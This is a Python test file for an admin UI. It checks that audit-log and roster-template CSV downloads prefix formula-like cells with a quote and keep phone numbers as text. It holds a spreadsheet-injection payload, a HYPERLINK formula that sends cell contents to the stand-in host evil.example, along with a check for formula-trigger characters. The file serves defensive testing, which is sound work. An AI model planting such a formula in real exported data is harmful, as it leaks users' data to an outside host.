"""The admin UI's CSV downloads open in a spreadsheet as data: a hostile name stays text."""

from __future__ import annotations

import csv
import io
import secrets

from playwright.sync_api import BrowserContext
from sqlalchemy import select

from parta.deployment import LocalDeployment
from provisioning.db.models import Region, School
from provisioning.services import schools as svc
from provisioning.services.roster import parse_roster
from tests.web.test_admin_ui import db_session, region_admin_page

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1;"Открыть")'


def rows_of(body: bytes, delimiter: str = ",") -> list[list[str]]:
    assert body.startswith(b"\xef\xbb\xbf")  # the BOM: spreadsheets read UTF-8
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=delimiter))


def test_the_audit_log_download_writes_a_formula_as_text(
    region: LocalDeployment, context: BrowserContext
) -> None:
    tag = secrets.token_hex(3)
    with db_session(region) as session:
        region_row = session.scalar(select(Region))
        assert region_row is not None
        school = svc.create_school(session, region_row, HOSTILE + tag, slug=f"csv-{tag}",
                                   academic_year=2026, actor="+79000000000")  # fmt: skip
        session.commit()
        school_id = school.id
    page = region_admin_page(region, context)
    base = region.settings.provisioning_url
    for url in (f"{base}/audit.csv?school={school_id}", f"{base}/schools/{school_id}/audit.csv"):
        answer = page.request.get(url)
        assert answer.status == 200
        rows = rows_of(answer.body())
        [created] = [row for row in rows[1:] if row[7] == "school.created"]
        assert created[1] == "'" + HOSTILE + tag, url  # "Where", on the region's download
        assert created[5] == "'+79000000000"  # "Who"
        cells = [cell for row in rows for cell in row]
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)


def test_the_roster_template_keeps_its_phones_as_text_and_imports_back(
    region: LocalDeployment, context: BrowserContext
) -> None:
    page = region_admin_page(region, context)
    base = region.settings.provisioning_url
    with db_session(region) as session:
        school_id = session.scalars(select(School.id)).first()  # any school will do
    answer = page.request.get(f"{base}/schools/{school_id}/import/template.csv")
    assert answer.status == 200
    rows = rows_of(answer.body(), ";")
    assert rows[1][3] == "'+7 900 000-00-01"  # Excel would read +7 900… as a formula
    phones = [row.phone for row in parse_roster(answer.body()) if row.phone]
    assert phones and all(phone.startswith("+7") for phone in phones), phones
